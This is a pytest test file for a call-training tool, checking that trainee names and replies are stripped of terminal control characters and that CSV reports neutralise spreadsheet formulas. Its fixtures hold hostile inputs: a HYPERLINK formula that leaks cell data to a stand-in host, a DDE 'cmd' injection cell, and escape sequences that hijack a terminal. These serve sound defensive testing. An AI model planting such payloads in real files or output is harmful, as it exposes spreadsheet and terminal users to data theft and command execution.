"""Issue 13, item 4: what trainees typed reaches a terminal without control characters and a
spreadsheet without formulas."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from hardening_support import Run, assert_fine, assert_refused, deescalate
from store_records import record

from trainer.store import Store

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
TITLE = "\x1b]0;pwned\x07"
"""Sets the terminal's window title and rings the bell."""
HYPERLINK = '=HYPERLINK("https://evil.invalid/?"&A1,"click")'
NAMES = [HYPERLINK + TITLE, "+1-2", "-cmd|' /C calc'!A0", "@SUM(A1:A9)", "ana\u202ereversed"]


def no_controls(run: Run) -> None:
    assert_fine(run)
    found = CONTROLS.findall(run.stdout + run.stderr)
    assert found == [], f"control characters {found!r} in {run.describe()}"


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'calls.db'}"
    with Store.open(url) as store:
        for name in NAMES:
            rec = record(name)
            rec.turns[0].reply = "I'm sorry\x1b[2J\x1b[H, what can I do?\x07"
            rec.turns[0].customer_next = "Fine.\x1b[31m"
            store.save(rec)
    return url


def test_history_and_progress_show_names_without_controls(db: str) -> None:
    no_controls(run := deescalate("history", "--db", db))
    assert "=HYPERLINK" in run.stdout
    no_controls(deescalate("history", "--db", db, "--json"))
    no_controls(run := deescalate("progress", "--db", db, "--trainee", NAMES[0]))
    assert f"progress for {HYPERLINK}]0;pwned:" in run.stdout
    no_controls(deescalate("history", "--db", db, "--trainee", TITLE))


def test_call_reports_carry_no_controls_in_any_format(db: str) -> None:
    history = deescalate("history", "--db", db, "--json")
    ident = json.loads(history.stdout)[0]["id"]
    for fmt in ("md", "html", "json"):
        no_controls(run := deescalate("report", ident, "--db", db, "--format", fmt))
        assert "what can I do?" in run.stdout


def test_cohort_reports_carry_no_controls_and_csv_runs_no_formula(db: str) -> None:
    for fmt in ("md", "html"):
        no_controls(deescalate("report", "--cohort", "--db", db, "--format", fmt))
    no_controls(run := deescalate("report", "--cohort", "--db", db, "--format", "csv"))
    names = [row[0] for row in csv.reader(io.StringIO(run.stdout))][1:]
    assert sorted(names) == sorted(
        [
            "'" + HYPERLINK + "]0;pwned",
            "'+1-2",
            "'-cmd|' /C calc'!A0",
            "'@SUM(A1:A9)",
            "anareversed",
        ]
    )
    assert all(not n.startswith(("=", "+", "-", "@")) for n in names)


def test_check_never_echoes_control_characters_from_a_file(tmp_path: Path) -> None:
    lib = tmp_path / "lib"
    shutil.copytree(Path(__file__).parent / "fixtures" / "library", lib)
    persona = lib / "personas" / "fixture-base.yaml"
    persona.write_text(
        persona.read_text(encoding="utf-8") + '"\\e]0;pwned\\a\\e[2J": 1\n', encoding="utf-8"
    )
    run = deescalate("check", "--library", str(lib), cwd=lib)
    line = assert_refused(run, r"^personas/fixture-base\.yaml:\d+:\d+: unknown key `")
    assert CONTROLS.findall(run.output) == [], line


def test_listing_a_persona_named_with_escapes_prints_plain_text(tmp_path: Path) -> None:
    lib = tmp_path / "lib"
    shutil.copytree(Path(__file__).parent / "fixtures" / "library", lib)
    persona = lib / "personas" / "fixture-base.yaml"
    text = persona.read_text(encoding="utf-8")
    persona.write_text(
        re.sub(r"(?m)^name: .*$", lambda _: 'name: "Ms \\e[5mFixture\\e[0m"', text, count=1),
        encoding="utf-8",
    )
    no_controls(run := deescalate("personas", "list", "--library", str(lib)))
    assert "Ms [5mFixture[0m" in run.stdout


def test_the_helpers() -> None:
    from trainer.textsafe import clean, clean_line, csv_cell

    assert clean("a\x1b[31mb\r\nc\td\x9b\u202e") == "a[31mb\nc\td"
    assert clean_line("one\ntwo\r\n\tthree\x07") == "one two three"
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell(" =1+1") == " =1+1"
    assert csv_cell("ana") == "ana"
    assert csv_cell("\x1b=cmd") == "'=cmd"
